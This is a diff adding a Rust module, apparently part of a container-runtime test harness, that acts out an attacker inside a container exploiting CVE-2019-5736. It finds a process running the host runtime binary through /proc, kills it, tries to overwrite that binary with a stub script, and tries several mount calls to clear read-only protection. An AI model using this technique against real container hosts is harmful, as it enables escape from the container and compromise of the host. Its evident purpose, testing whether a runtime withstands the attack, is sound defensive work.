@@ -1,0 +1,119 @@
+//! An attacker in a container, who is after the file that the runtime is executed from (CVE-2019-5736).
+
+use crate::facts::errno;
+use crate::{Words, say};
+use nix::mount::{MsFlags, mount};
+use nix::sys::signal::{Signal, kill};
+use nix::unistd::Pid;
+use std::collections::BTreeSet;
+use std::fs::{self, File, OpenOptions};
+use std::io::{self, Write};
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
+use std::time::{Duration, Instant};
+
+/// Does `name`; false: there is no such act.
+pub fn act(name: &str, words: &Words<'_>) -> bool {
+    match name {
+        "hunt" => hunt(Duration::from_secs(words.number(0))),
+        _ => return false,
+    }
+    true
+}
+
+/// Says `hunting`, and until the time is up looks for a process that executes another file than this
+/// one. Holds on to that file, ends the process, and tries to write to the file: `overwritten`, or
+/// `refused` and what the kernel had to say against it.
+fn hunt(time: Duration) {
+    say!("hunting");
+    let end = Instant::now() + time;
+    let caught = loop {
+        match catch() {
+            Ok(Some(caught)) => break caught,
+            Ok(None) if Instant::now() < end => {}
+            Ok(None) => return say!("caught nothing"),
+            Err(error) => return say!("hunt {}", errno(&error)),
+        }
+    };
+    let (pid, file, path) = caught;
+    say!("caught {pid} {path}");
+    _ = kill(pid, Signal::SIGKILL);
+    let (mut refusals, end) = (BTreeSet::new(), Instant::now() + Duration::from_secs(3));
+    while Instant::now() < end {
+        match overwrite(&file) {
+            Ok(()) => return say!("overwritten"),
+            // Somebody executes it; not for long.
+            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {}
+            Err(error) => _ = refusals.insert(errno(&error)),
+        }
+        make_writable(&file);
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    say!("refused {}", refusals.into_iter().collect::<Vec<_>>().join(" "));
+}
+
+/// The executable of another process, if it is not this one's.
+fn catch() -> io::Result<Option<(Pid, File, String)>> {
+    let own = fs::metadata("/proc/self/exe")?;
+    for entry in fs::read_dir("/proc")?.flatten() {
+        let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse().ok()) else {
+            continue;
+        };
+        let exe = format!("/proc/{pid}/exe");
+        let file = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&exe);
+        let Ok(file) = file else { continue };
+        let found = file.metadata()?;
+        if (found.dev(), found.ino()) != (own.dev(), own.ino()) {
+            let path = fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd()))?;
+            return Ok(Some((Pid::from_raw(pid), file, path.display().to_string())));
+        }
+    }
+    Ok(None)
+}
+
+fn overwrite(file: &File) -> io::Result<()> {
+    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+    let mut open = OpenOptions::new().write(true).open(path)?;
+    open.write_all(b"#!/bin/sh\n# overwritten\n")
+}
+
+/// Whatever could take away the protection of a mount, for who has CAP_SYS_ADMIN.
+fn make_writable(file: &File) {
+    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+    for flags in [MsFlags::MS_REMOUNT | MsFlags::MS_BIND, MsFlags::MS_REMOUNT] {
+        // That it fails is the point; what comes of it is seen when the file is opened.
+        _ = mount(None::<&str>, path.as_str(), None::<&str>, flags, None::<&str>);
+    }
+    let attr = libc::mount_attr {
+        attr_set: 0,
+        attr_clr: libc::MOUNT_ATTR_RDONLY,
+        propagation: 0,
+        userns_fd: 0,
+    };
+    let (fd, size) = (file.as_raw_fd(), size_of_val(&attr));
+    // SAFETY: the path is a C string; attr outlives the call and its size is passed.
+    let done = unsafe {
+        libc::syscall(
+            libc::SYS_mount_setattr,
+            fd,
+            c"".as_ptr(),
+            libc::AT_EMPTY_PATH,
+            &raw const attr,
+            size,
+        )
+    };
+    if done == 0 {
+        say!("mount_setattr ok");
+    }
+    let flags = libc::OPEN_TREE_CLONE | libc::AT_EMPTY_PATH.cast_unsigned();
+    // SAFETY: the path is a C string.
+    let tree = unsafe { libc::syscall(libc::SYS_open_tree, fd, c"".as_ptr(), flags) };
+    if tree >= 0 {
+        say!("open_tree ok");
+    }
+    // SAFETY: as above; FSPICK_EMPTY_PATH is 8.
+    let picked = unsafe { libc::syscall(libc::SYS_fspick, fd, c"".as_ptr(), 8) };
+    if picked >= 0 {
+        say!("fspick ok");
+    }
+}
